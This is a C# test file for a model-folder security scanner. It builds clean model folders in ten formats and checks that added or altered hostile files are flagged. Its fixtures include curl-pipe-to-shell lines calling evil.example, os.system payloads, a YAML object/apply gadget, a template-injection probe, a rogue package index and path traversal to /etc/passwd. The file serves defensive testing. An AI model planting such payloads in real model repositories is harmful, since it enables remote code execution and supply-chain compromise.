// Folders as tools write them pass with everything read, and each with one thing too many does not.
using System.Text;
using Assay.Policies;
using Assay.Tests.Builders;
using Assay.Tests.Conversion;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats;

public sealed class DownloadedFolderTests
{
    private const string Template = "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant' }}{% endif %}";

    private const string Readme = "---\nlicense: apache-2.0\nbase_model: org/base\n---\n# Model\n\n```python\nfrom transformers import AutoModel\n```\n";

    private static readonly byte[] s_weights = WeightFiles.Safetensors("{\"w\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 8);

    private static readonly byte[] s_floats = [.. Enumerable.Range(0, 64).Select(i => (byte)((i * 37) | 0x81))];

    private static readonly byte[] s_picture = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    /// <summary>What the tools write, by their names.</summary>
    private static (string Name, byte[] Bytes)[] Folder(string kind) => kind switch
    {
        "transformers" =>
        [
            T("config.json", """{"architectures": ["Qwen2ForCausalLM"], "model_type": "qwen2", "hidden_size": 8, "torch_dtype": "bfloat16", "transformers_version": "4.41.0"}"""),
            T("generation_config.json", """{"do_sample": true, "temperature": 0.7}"""), ("model-00001-of-00002.safetensors", s_weights), ("model-00002-of-00002.safetensors", Shard("v")),
            T("model.safetensors.index.json", """{"metadata": {"total_size": 16}, "weight_map": {"w": "model-00001-of-00002.safetensors", "v": "model-00002-of-00002.safetensors"}}"""),
            .. Tokenizer(""), T("README.md", Readme), T("LICENSE", "Apache License\n"), T(".gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"), ("assets/logo.png", s_picture),
            T("chat_template.jinja", Template), T("vocab.bpe", "#version: 0.2\n\u0120 t\n"), T("trainer_state.json", """{"log_history": [{"loss": 1.0}]}"""),
        ],
        "diffusers" =>
        [
            T("model_index.json", """{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.0", "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [null, null]}"""),
            T("scheduler/scheduler_config.json", """{"_class_name": "PNDMScheduler", "beta_end": 0.012}"""), T("unet/config.json", """{"_class_name": "UNet2DConditionModel", "act_fn": "silu"}"""),
            ("unet/diffusion_pytorch_model.safetensors", s_weights), T("text_encoder/config.json", """{"architectures": ["CLIPTextModel"], "model_type": "clip_text_model"}"""), ("text_encoder/model.safetensors", s_weights), .. Tokenizer("tokenizer/"), T("README.md", Readme),
        ],
        "sentence-transformers" =>
        [
            T("modules.json", """[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]"""),
            T("config_sentence_transformers.json", """{"__version__": {"sentence_transformers": "2.0.0"}}"""), T("sentence_bert_config.json", """{"max_seq_length": 256}"""), T("1_Pooling/config.json", """{"word_embedding_dimension": 384}"""),
            T("config.json", """{"architectures": ["BertModel"], "model_type": "bert"}"""), ("model.safetensors", s_weights), .. Tokenizer(""),
        ],
        "gguf" =>
        [
            ("model.gguf", new GgufBuilder().Text("general.architecture", "llama").Texts("tokenizer.ggml.tokens", "a", "b").Text("tokenizer.chat_template", Template).Tensor("w", 0, 0, 8).Build(32)), T("README.md", Readme),
            T("Modelfile", "FROM ./model.gguf\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n"),
        ],
        "peft" =>
        [
            T("adapter_config.json", """{"auto_mapping": null, "base_model_name_or_path": "org/base", "peft_type": "LORA", "r": 8, "target_modules": ["q_proj"], "task_type": "CAUSAL_LM"}"""), ("adapter_model.safetensors", s_weights), .. Tokenizer(""), T("README.md", Readme),
        ],
        "spacy" =>
        [
            T("config.cfg", "[nlp]\nlang = \"en\"\npipeline = [\"ner\"]\ntokenizer = {\"@tokenizers\":\"spacy.Tokenizer.v1\"}\n\n[components.ner]\nfactory = \"ner\"\n"), T("meta.json", """{"lang": "en", "name": "core_web_sm", "pipeline": ["ner"]}"""),
            ("ner/moves", [0x82, 0xA5, .. "moves"u8, 0xA2, .. "{}"u8, 0xA7, .. "strings"u8, 0x90]), ("vocab/key2row", [0x80]), ("tokenizer", [0x81, 0xAD, .. "prefix_search"u8, 0xA2, .. "^x"u8]), T("vocab/strings.json", """["a", "b"]"""),
        ],
        "mlflow" =>
        [
            T("MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.lightgbm\n    data: model.lgb\n    env:\n      conda: conda.yaml\n  lightgbm:\n    lgb_version: 4.1.0\nmlflow_version: 2.9.2\nutc_time_created: '2024-01-01 00:00:00'\n"),
            T("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip:\n  - mlflow==2.9.2\n"), T("python_env.yaml", "python: 3.10.12\ndependencies:\n- -r requirements.txt\n"), T("requirements.txt", "mlflow==2.9.2\nlightgbm==4.1.0\n"),
            T("input_example.json", """{"columns": ["a"], "data": [[1.0]]}"""),
        ],
        "tfjs" =>
        [
            T("model.json", """{"format": "layers-model", "modelTopology": {"keras_version": "2.12.0", "model_config": {"class_name": "Sequential", "config": {"name": "s", "layers": []}}}, "weightsManifest": [{"paths": ["weights.bin"], "weights": [{"name": "k", "shape": [4, 4], "dtype": "float32"}]}]}"""),
            ("weights.bin", s_floats), T("metadata.json", """{"labels": ["a", "b"]}"""),
        ],
        "coreml" =>
        [
            T("m.mlpackage/Manifest.json", """{"fileFormatVersion": "1.0.0", "rootModelIdentifier": "B", "itemInfoEntries": {"A": {"path": "com.apple.CoreML/weights"}}}"""), ("m.mlpackage/Data/com.apple.CoreML/weights/weight.bin", s_floats),
        ],
        "onnx" =>
        [
            ("onnx/model.onnx", new ProtobufBuilder().Number(1, 8).Message(7, g => g.Text(2, "g").Message(5, t => t.Packed(1, 16).Number(2, 1).Text(8, "w").Message(13, e => e.Text(1, "location").Text(2, "model.onnx_data")).Number(14, 1))).Message(8, o => o.Number(2, 17)).Build()),
            ("onnx/model.onnx_data", s_floats), T("config.json", """{"model_type": "bert"}"""), .. Tokenizer(""),
        ],
        _ => throw new ArgumentException("There is no such folder.", nameof(kind)),
    };

    public static TheoryData<string> Kinds => ["transformers", "diffusers", "sentence-transformers", "gguf", "peft", "spacy", "mlflow", "tfjs", "coreml", "onnx"];

    [Theory]
    [MemberData(nameof(Kinds))]
    public void AFolderAsItsToolWritesItPassesWithEverythingRead(string kind)
    {
        ScanReport report = ScanReport.Of(Scans.Options, new MemoryBundle(Folder(kind)));
        Assert.All(report.Targets, t => Assert.True(t.Verdict == Verdict.Passed && t.Unread.Count == 0, $"{t.Path}: {t.Verdict}, {string.Join(' ', t.Findings.Select(f => f.Rule.Id))}, {string.Join(' ', t.Unread.Select(u => u.Detail))}"));
        Assert.Equal(Folder(kind).Length, report.Targets.Count);
    }

    [Theory]
    [MemberData(nameof(Kinds))]
    public void OneHostileFileBesideIsFound(string kind)
    {
        (string, byte[])[] additions =
        [
            ("pytorch_model.bin", Scans.Canary), ("logo.jpg", Scans.Canary), T("modeling_x.py", "import os\nos.system('curl http://evil.example/x | sh')\n"), T("x.pth", "import os;os.system('id')\n"),
            T("requirements.dev.txt", "--extra-index-url http://10.0.0.1/simple\ntorch==2.1\n"), T("setup.sh", "#!/bin/sh\ncurl -s http://evil.example/a | bash\n"), T("extra.yaml", "_target_: os.system\ncommand: id\n"), T("b.yaml", "a: !!python/object/apply:os.system [id]\n"),
            T("chat_template.json", "{\"chat_template\": \"{{ ''.__class__.__mro__ }}\"}"),
        ];
        foreach ((string Name, byte[] Bytes) one in additions)
        {
            ScanReport report = ScanReport.Of(Scans.Options, new MemoryBundle([.. Folder(kind), one]));
            Assert.True(report.Verdict is Verdict.Suspicious or Verdict.Malicious, $"{kind} with {one.Name}: {report.Verdict}");
        }
    }

    [Theory]
    [InlineData("transformers", "config.json", """{"model_type": "x", "auto_map": {"AutoModel": "evil/repo--modeling_x.M"}}""")]
    [InlineData("transformers", "model.safetensors.index.json", """{"weight_map": {"w": "../../../etc/passwd"}}""")]
    [InlineData("diffusers", "model_index.json", """{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.0", "unet": ["evil_module", "X"]}""")]
    [InlineData("sentence-transformers", "modules.json", """[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]""")]
    [InlineData("peft", "adapter_config.json", """{"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "os"}}""")]
    [InlineData("tfjs", "model.json", """{"modelTopology": {}, "weightsManifest": [{"paths": ["../../secret.bin"], "weights": []}]}""")]
    [InlineData("coreml", "m.mlpackage/Manifest.json", """{"rootModelIdentifier": "B", "itemInfoEntries": {"A": {"path": "../../../etc"}}}""")]
    [InlineData("spacy", "ner/model", "os.system")]
    public void AFileOfItsOwnThatIsChangedIsFound(string kind, string name, string text)
    {
        byte[] bytes = text == "os.system" ? Scans.Canary : Encoding.UTF8.GetBytes(text);
        ScanReport report = ScanReport.Of(Scans.Options, new MemoryBundle([.. Folder(kind).Where(f => f.Name != name), (name, bytes)]));
        Assert.True(report.Verdict is Verdict.Suspicious or Verdict.Malicious, $"{kind} with {name}: {report.Verdict}");
    }

    private static (string Name, byte[] Bytes)[] Tokenizer(string folder) =>
    [
        T(folder + "tokenizer.json", """{"version": "1.0", "added_tokens": [], "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": false}, "model": {"type": "BPE", "vocab": {"a": 1, "b": 2, "ab": 3}, "merges": ["a b"]}}"""),
        T(folder + "tokenizer_config.json", $$"""{"chat_template": "{{Template.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)}}", "tokenizer_class": "Qwen2Tokenizer", "model_max_length": 32768}"""),
        T(folder + "special_tokens_map.json", """{"eos_token": "<|im_end|>"}"""), T(folder + "vocab.json", """{"a": 1}"""), T(folder + "merges.txt", "#version: 0.2\na b\n"), T(folder + "vocab.txt", "[PAD]\n[UNK]\nthe\n"),
    ];

    private static byte[] Shard(string name) => WeightFiles.Safetensors("{\"" + name + "\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 8);

    private static (string Name, byte[] Bytes) T(string name, string text) => (name, Encoding.UTF8.GetBytes(text));
}
